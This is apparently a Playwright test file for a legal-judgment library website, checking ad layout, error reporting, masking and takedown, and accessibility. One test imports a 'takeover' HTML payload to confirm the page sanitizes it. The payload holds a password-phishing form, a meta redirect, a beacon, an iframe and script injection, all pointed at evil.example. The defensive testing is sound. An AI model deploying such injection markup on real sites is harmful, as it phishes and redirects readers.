import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, type Page, test } from '@playwright/test';
import Database from 'better-sqlite3';
import { expectAccessible, watchConsole, watchLayoutShift } from './support/screens.js';
import { importInto, startServer, type TestServer } from './support/test-server.js';
import { expectToast } from './support/toasts.js';

let server: TestServer;
let dataDir = '';

test.beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'headnote-e2e-'));
  server = await startServer(dataDir);
});
test.afterAll(async () => {
  await server.stop();
  await rm(dataDir, { recursive: true, force: true });
});

/** Runs the administrator's command next to the running server. */
async function admin(...args: readonly string[]): Promise<string> {
  const program = fileURLToPath(new URL('../../packages/server/dist/admin-cli.js', import.meta.url));
  const child = spawn(process.execPath, [program, ...args], { env: { ...process.env, DATA_DIR: dataDir } });
  let output = '';
  child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
  child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString()));
  const [code] = (await once(child, 'close')) as [number | null];
  if (code !== 0) throw new Error(`documents ended with ${code}: ${output}`);
  return output;
}

interface Judgment {
  readonly id: string;
  readonly house_citation: string;
  readonly appellant: string;
}

/** Judgments of the sample with a cut text, as the library has them. */
function judgments(): readonly Judgment[] {
  const database = new Database(join(dataDir, 'headnote.db'), { readonly: true });
  try {
    return database
      .prepare(
        `select id, house_citation, appellant from documents where kind = 'case' and length(preview_html) > 2000 order by id limit 5`,
      )
      .all() as Judgment[];
  } finally {
    database.close();
  }
}

function judgment(index: number): Judgment {
  const found = judgments().at(index);
  if (found === undefined) throw new Error(`the sample has no judgment ${index} with a cut text`);
  return found;
}

/** Slug of an act with a cut text. */
function firstAct(): string {
  const database = new Database(join(dataDir, 'headnote.db'), { readonly: true });
  const row = database
    .prepare(`select house_citation from documents where kind = 'act' and length(preview_html) > 2000 order by id`)
    .get() as { house_citation: string } | undefined;
  database.close();
  if (row === undefined) throw new Error('the sample has no act with a cut text');
  return row.house_citation.toLowerCase().replaceAll(' ', '-');
}

const address = ({ house_citation: citation }: { house_citation: string }) =>
  `${server.url}/case/${citation.toLowerCase().replaceAll(' ', '-')}`;

const rooms = (page: Page) =>
  page.locator('.hn-ad__room').evaluateAll((all) => all.map((one) => (one as HTMLElement).offsetHeight));

for (const [what, block] of [
  ['house notices', false],
  ['every request to other servers blocked', true],
] as const) {
  test(`N5: advertisements keep their place from the start and come after 900 ms: ${what}`, async ({ page }) => {
    const foreign: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(server.url)) foreign.push(request.url());
    });
    if (block)
      await page.route(
        (url) => url.origin !== server.url,
        (route) => route.abort(),
      );
    const shift = await watchLayoutShift(page);
    await page.setViewportSize({ width: 1280, height: 900 });
    await page.goto(address(judgment(0)));
    expect(await rooms(page)).toEqual([600, 90, 600]);
    await expect(page.getByRole('link', { name: 'Widgets for your site' }).first()).toBeVisible();
    await expect(page.locator('.site-house')).toHaveCount(3);
    expect(await rooms(page)).toEqual([600, 90, 600]);
    expect(await shift()).toBe(0);
    expect(foreign).toEqual([]);
  });
}

test('an error is reported with its paragraph, and the form keeps what was typed when it is refused', async ({
  page,
}) => {
  const { problems } = watchConsole(page);
  const document = judgment(0);
  const dialog = page.getByRole('dialog', { name: 'Report an error' });
  // Until its script runs, the link opens the contact page.
  await expect(async () => {
    await page.goto(address(document), { waitUntil: 'networkidle' });
    await page.getByRole('link', { name: 'Report an error' }).click();
    await expect(dialog).toBeVisible({ timeout: 2000 });
  }).toPass();
  await dialog.getByRole('button', { name: 'Send report' }).click();
  await expect(dialog.getByText('Report must not be blank!')).toBeVisible();
  await dialog.getByLabel('Paragraph').fill('2');
  await dialog.getByLabel('What is wrong').fill('The year is wrong.');
  await dialog.getByRole('button', { name: 'Send report' }).click();
  await expectToast(page, { title: 'Success', type: 'SUCCESS', text: /Your report was received\. Its number is E-/ });
  await expect(dialog).toBeHidden();
  const database = new Database(join(dataDir, 'headnote.db'), { readonly: true });
  const stored = database.prepare(`select document_id, paragraph, body from contact_messages`).all();
  database.close();
  expect(stored).toEqual([{ document_id: document.id, paragraph: '2', body: 'The year is wrong.' }]);
  expect(problems).toEqual([]);
});

test('a masked judgment says so, and one that was taken down answers 410 with the reason', async ({ page }) => {
  const masked = judgment(1);
  const gone = judgment(2);
  const name = masked.appellant.split(/\s+/).slice(0, 2).join(' ');
  await admin('documents', 'mask', masked.id, '--person', `${name}=X`, '--reason', 'Order of a court');
  await admin('documents', 'take-down', gone.house_citation, '--reason', 'Order of a court');
  const shown = await page.goto(address(masked));
  expect(shown?.status()).toBe(200);
  await expect(page.getByText('Names in this document are replaced')).toBeVisible();
  expect((await page.content()).toLowerCase()).not.toContain(name.toLowerCase());
  const missing = await page.goto(address(gone));
  expect(missing?.status()).toBe(410);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('This document was taken down');
  await expect(page.getByText('Order of a court')).toBeVisible();
});

for (const width of [1280, 360]) {
  for (const colorScheme of ['light', 'dark'] as const) {
    test(`data coverage at ${width} px, ${colorScheme}: nothing shifts, nothing overflows, axe finds nothing`, async ({
      page,
    }) => {
      await page.emulateMedia({ colorScheme });
      await page.setViewportSize({ width, height: 900 });
      const shift = await watchLayoutShift(page);
      await page.goto(`${server.url}/datacoverage`);
      await expect(page.getByRole('heading', { level: 1 })).toHaveText('Data coverage');
      const chart = page.getByRole('slider', { name: 'Year of the judgments' });
      await chart.focus();
      await page.keyboard.press('Home');
      const year = await chart.getAttribute('aria-valuenow');
      await page.keyboard.press('ArrowRight');
      expect(await chart.getAttribute('aria-valuenow')).toBe(String(Number(year) + 1));
      await expect(page.locator('.site-years__box')).toContainText(String(Number(year) + 1));
      await expectAccessible(page);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
      expect(await shift()).toBe(0);
    });
  }
}

for (const width of [1280, 360]) {
  for (const colorScheme of ['light', 'dark'] as const) {
    test(`previews at ${width} px, ${colorScheme}: nothing shifts, nothing overflows, axe finds nothing`, async ({
      page,
    }) => {
      const { problems } = watchConsole(page);
      await page.emulateMedia({ colorScheme });
      await page.setViewportSize({ width, height: 900 });
      const shift = await watchLayoutShift(page);
      for (const url of [address(judgment(0)), `${server.url}/act/${firstAct()}`]) {
        await page.goto(url);
        await expect(page.locator('.site-house').first()).toBeAttached();
        await expectAccessible(page);
        expect(await page.evaluate(() => document.documentElement.scrollWidth), url).toBeLessThanOrEqual(width);
        expect(await shift(), url).toBeLessThan(0.001);
      }
      expect(problems).toEqual([]);
    });
  }
}

test('E6: the text of a document has a stacking context of its own, no style and no form', async ({ page }) => {
  await page.goto(address(judgment(0)));
  const text = page.locator('.hn-document');
  expect(await text.evaluate((element) => getComputedStyle(element).isolation)).toBe('isolate');
  await expect(text.locator('[style], style, form, iframe, base, meta, link, input, button')).toHaveCount(0);
});

/** Text that tries to cover the page, ask for a password and lead the reader away. */
const TAKEOVER = `<style>body{display:none}</style><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<div style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example/beacon)">Your session ended.</div>
<form action="https://evil.example/"><input name="password"><button>Sign in here</button></form>
<iframe src="https://evil.example/"></iframe><img src="https://evil.example/i.png" onerror="document.title='taken'">
<svg><foreignObject><form action="https://evil.example/"></form></foreignObject></svg>
<script>document.title = 'taken'</script><p>The appeal is dismissed.</p>`;

test('E6: an imported judgment that tries to take over the page shows its words and does nothing', async ({ page }) => {
  const file = join(dataDir, 'takeover.jsonl');
  await writeFile(file, JSON.stringify({ id: 'takeover', title: 'Evil v. Example', html: TAKEOVER }));
  await importInto(dataDir, 'documents', [file]);
  const database = new Database(join(dataDir, 'headnote.db'), { readonly: true });
  const imported = database.prepare(`select house_citation from documents where appellant = 'Evil'`).get();
  database.close();
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(server.url)) foreign.push(request.url());
  });
  await page.goto(address(imported as Judgment));
  const text = page.locator('.hn-document');
  await expect(text).toContainText('The appeal is dismissed.');
  await expect(page.locator('.site-house')).toHaveCount(3);
  await expect(text.locator('[style], style, form, iframe, base, meta, svg, img, script, input, button')).toHaveCount(
    0,
  );
  await expect(page).toHaveTitle(/^Evil Versus Example/);
  expect(page.url()).toBe(address(imported as Judgment));
  expect(foreign).toEqual([]);
});

test.describe('without script', () => {
  test.use({ javaScriptEnabled: false });
  test('data coverage shows every court, and a table of the years', async ({ page }) => {
    await page.goto(`${server.url}/datacoverage`);
    const { outdata } = (await (await page.request.get(`${server.url}/api/documents/coverage`)).json()) as {
      outdata: { courts: readonly unknown[] };
    };
    await expect(page.locator('.site-courts__strip:visible')).toHaveCount(outdata.courts.length);
    await page.getByText('All years as a table').click();
    await expect(page.getByRole('columnheader', { name: 'Year', exact: true })).toBeVisible();
  });
});
